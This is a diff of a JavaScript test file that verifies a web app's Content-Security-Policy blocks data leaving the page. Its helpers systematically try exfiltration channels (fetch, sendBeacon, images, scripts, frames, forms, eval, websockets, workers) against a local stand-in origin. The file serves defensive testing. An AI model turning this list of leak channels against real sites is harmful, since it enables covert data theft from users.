@@ -1,22 +1,20 @@
-// Nothing can be sent to another origin: not by a script of the page, and not by the engine.
+// Nothing can be sent to another origin, neither by a script of the page nor by the engine.
 
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { join } from "node:path";
 import { after, before, beforeEach, test } from "node:test";
-import { songs } from "./support/audio.mjs";
-import { classify, launch, open } from "./support/browser.mjs";
+import { song } from "./support/audio.mjs";
+import { classify, fakeMicrophone, launch, line, open } from "./support/browser.mjs";
 import { dist, serve } from "./support/site.mjs";
+import { text } from "./support/texts.mjs";
 
 let site, browser, foreign, arrived;
 before(async () => {
   site = await serve();
-  browser = await launch({
-    gpu: false,
-    args: ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"],
-  });
-  // Another origin, which would welcome anything.
+  browser = await launch({ gpu: false, args: fakeMicrophone() });
+  // Another origin, which accepts anything.
   foreign = createServer((request, response) => {
     arrived.add(request.url);
     response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end();
@@ -39,7 +37,7 @@ after(async () => {
 
 const address = () => `localhost:${foreign.address().port}`;
 
-/** Every way out that a worker has. Runs in the worker. */
+/** Tries every way in which a worker can send data, and returns those that worked. Runs in the worker. */
 async function leakFromWorker(address) {
   const ways = {
     fetch: () => fetch(`http://${address}/fetch`, { method: "POST", body: "song" }),
@@ -73,11 +71,11 @@ async function leakFromWorker(address) {
         worker.onerror = reject;
       }),
   };
-  const patience = () => new Promise((_, reject) => setTimeout(reject, 3000));
+  const timeout = () => new Promise((_, reject) => setTimeout(reject, 3000));
   const out = [];
   for (const [name, go] of Object.entries(ways)) {
     try {
-      await Promise.race([go(), patience()]);
+      await Promise.race([go(), timeout()]);
       out.push(name);
     } catch {
       // Refused.
@@ -86,7 +84,7 @@ async function leakFromWorker(address) {
   return out;
 }
 
-/** The further ways that a page has. Runs in the page. */
+/** Tries the further ways in which a page can send data. Runs in the page. */
 async function leakFromPage(address) {
   const url = (name) => `http://${address}/${name}`;
   navigator.sendBeacon(url("beacon"), "song");
@@ -122,19 +120,19 @@ async function leaks(page) {
   return { engine, fromEngine, script, fromPage: [...arrived] };
 }
 
-test("no way out for a script of the page or for the engine", async () => {
+test("neither a script of the page nor the engine can send anything to another origin", async () => {
   const page = await open(browser, site.url);
   const found = await leaks(page);
   assert.deepEqual(found, { engine: [], fromEngine: [], script: [], fromPage: [] });
   await page.context().close();
 });
 
-test("the same without the policy: the test would notice", async () => {
+test("without the policy the same attempts succeed, so the test above can fail", async () => {
   const html = readFileSync(join(dist, "index.html"), "utf8");
   site.replace.set("/index.html", Buffer.from(html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "")));
   const page = await open(browser, site.url);
   const found = await leaks(page);
-  console.log(`without it: ${found.fromEngine.join(" ")} and ${found.fromPage.join(" ")}`);
+  console.log(`without the policy: ${found.fromEngine.join(" ")} and ${found.fromPage.join(" ")}`);
   for (const name of ["/fetch", "/socket", "/module", "/worker"]) assert.ok(found.fromEngine.includes(name), name);
   for (const name of ["/fetch", "/beacon", "/image", "/script", "/inline", "/frame", "/form", "/eval"]) {
     assert.ok(found.fromPage.includes(name), name);
@@ -143,7 +141,7 @@ test("the same without the policy: the test would notice", async () => {
   await page.context().close();
 });
 
-test("the policy is the first thing in the head, and hinders nothing that the page does", async () => {
+test("the policy is the first element of the head, and blocks nothing that the page does", async () => {
   const html = readFileSync(join(dist, "index.html"), "utf8");
   assert.match(html, /<head>\s*<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
   assert.doesNotMatch(html, /unsafe-inline|'unsafe-eval'|https?:/);
@@ -161,8 +159,8 @@ test("the policy is the first thing in the head, and hinders nothing that the pa
   page.on("console", (message) => {
     if (/content security policy/i.test(message.text())) refused.push(message.text());
   });
-  const heard = await classify(page, songs(1)[0]);
-  assert.equal(heard.state, "done", heard.message);
+  const { state, message } = await classify(page, song());
+  assert.equal(state, "done", message);
   await page.click("#play");
   await page.waitForFunction(() => document.querySelector("#audio").currentTime > 0.2);
   await page.click("#record");
@@ -170,6 +168,6 @@ test("the policy is the first thing in the head, and hinders nothing that the pa
   await page.waitForFunction(() => document.querySelector("#elapsed-time").textContent !== "0:00");
   await page.click("#discard");
   assert.deepEqual([...refused, ...(await page.evaluate(() => window.refused))], []);
-  assert.match(await page.innerText("#policy-line"), /policy/);
+  assert.equal(await line(page, "#policy-line"), text("presence.policy"));
   await page.context().close();
 });
